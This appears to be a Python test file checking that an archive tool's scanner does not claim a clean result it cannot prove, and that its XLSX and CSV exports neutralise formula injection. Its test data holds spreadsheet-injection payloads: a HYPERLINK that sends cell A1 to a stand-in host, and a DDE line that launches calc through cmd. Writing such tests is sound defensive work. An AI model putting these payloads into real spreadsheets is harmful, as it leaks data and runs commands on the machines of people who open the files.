"""Reports say exactly what was examined and lists never run case text (review F13, F15)."""

from __future__ import annotations

import csv

from openpyxl import load_workbook

from earchive.check import CheckOptions, check_package
from earchive.check.virus import make_scanner
from earchive.domain.exports import catalogue_csv, catalogue_xlsx, transfer_list_xlsx


def test_finding_nothing_with_development_signatures_is_manual_not_pass(packed):
    """F13: the built-in scanner knows EICAR only; 'nothing found' by it is no evidence of a clean package."""
    _, good = packed
    report = check_package(good.path, CheckOptions(scanner=make_scanner("builtin")))
    r = next(r for r in report.results if r.id == "GD-4-2")
    assert r.status == "manual" and "proves nothing" in r.detail
    assert report.passed, "manual is not a failure: a person scans"


EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


def test_case_text_never_becomes_a_formula_in_the_lists(tmp_path):
    """F15: free text from case.json (task_name …) is written as text in XLSX and defused in CSV."""
    item = {"package_id": "430102-0102-1-2026-D30-000001", "record_code": "430102-0102-1-2026-D30-000001", "project_id": "P1",
            "task_name": EVIL, "task_type": "+1+cmd|' /C calc'!A0", "retention_period": "D30", "status": "ARCHIVED"}
    xlsx = catalogue_xlsx([item], tmp_path / "c.xlsx")
    cells = [c for row in load_workbook(xlsx).active.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert EVIL in [c.value for c in cells]
    with open(catalogue_csv([item], tmp_path / "c.csv"), encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    assert "'" + EVIL in rows[1] and all(not v.startswith(("=", "+", "@")) for v in rows[1])
    document = {"batch_id": "202611250001", "institution_name": EVIL, "transferor": "@SUM(1+1)", "receiver": None,
                "transfer_date": "2026-11-25", "rows": [{"序号": 1, "批次编号": "202611250001", "办理事项名称": EVIL, "事项类型": "行政权力事项",
                                                          "归档信息包数量": 1, "检测意见": "合格", "备注": ""}],
                "packages": [{"record_code": "x", "project_id": "P1", "task_name": EVIL, "version": 1,
                              "digest": {"algorithm": "SM3", "value": "00"}, "sha256": "00", "size": 1}]}
    wb = load_workbook(transfer_list_xlsx(document, tmp_path / "t.xlsx"))
    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
